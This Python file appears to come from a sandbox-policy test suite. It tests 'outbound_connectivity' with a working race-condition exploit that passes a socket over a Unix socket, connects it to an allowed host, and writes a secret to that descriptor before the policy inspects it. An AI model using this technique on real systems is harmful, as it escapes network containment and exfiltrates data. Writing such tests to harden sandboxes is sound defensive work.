# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: one process peeks at a message that holds a socket and connects it, another receives it,
#   and writes to the fd in a thread, before the door that received it has inspected it
# proof: word
# needs: resolver python>=3.9
# timeout: 60
import os
import select
import signal
import socket
import struct
import sys
import threading
import time

from attack import SECRET, attempt, patience

# Above what other sockets of this program had.
FREE = 60
sys.setswitchinterval(0.0001)
over = threading.Event()


def write():
    while not over.is_set():
        try:
            os.write(FREE, SECRET.encode())
        except OSError:
            pass


children = []


def process(work):
    """A child that does `work` for each byte that it is sent, and answers."""
    here, there = socket.socketpair()
    child = os.fork()
    if child == 0:
        here.close()
        try:
            while there.recv(1):
                try:
                    work()
                except OSError:
                    pass
                there.send(b".")
        finally:
            os._exit(0)
    there.close()
    children.append(child)
    return here


def ask(child):
    child.send(b".")
    child.recv(1)


def fill():
    low = os.open("/dev/null", os.O_RDONLY)
    while low < FREE - 1:
        low = os.dup(low)


def main():
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.66.66.67", 443))
    listener.listen(64)
    place = socket.getaddrinfo("api.allowed.example", 443, 0, socket.SOCK_STREAM)[0][4]
    near, far = socket.socketpair()
    told, tells = socket.socketpair()

    def make():
        with socket.socket() as out:
            socket.send_fds(near, [b"."], [out.fileno()])

    def connect():
        # recv_fds does not pass flags on.
        control = far.recvmsg(1, socket.CMSG_SPACE(4), socket.MSG_PEEK)[1]
        with socket.socket(fileno=struct.unpack("i", control[0][2])[0]) as same:
            same.connect(place)

    def hear():
        peers = []
        while True:
            for one in select.select([listener, *peers], [], [])[0]:
                if one is listener:
                    peers.append(listener.accept()[0])
                    continue
                said = one.recv(65536)
                if SECRET.encode() in said:
                    tells.send(said[:100])
                peers.remove(one)

    server, maker, connecter = process(hear), process(make), process(connect)
    server.send(b".")
    fill()
    threading.Thread(target=write, daemon=True).start()
    heard, end = b"", time.monotonic() + patience(8)
    while not heard and time.monotonic() < end:
        ask(maker)
        ask(connecter)
        for fd in socket.recv_fds(far, 1, 1)[1]:
            time.sleep(0.001)
            os.close(fd)
        if select.select([told], [], [], 0.001)[0]:
            heard = told.recv(100)
    over.set()
    return heard


@attempt
def steal():
    try:
        return main()
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
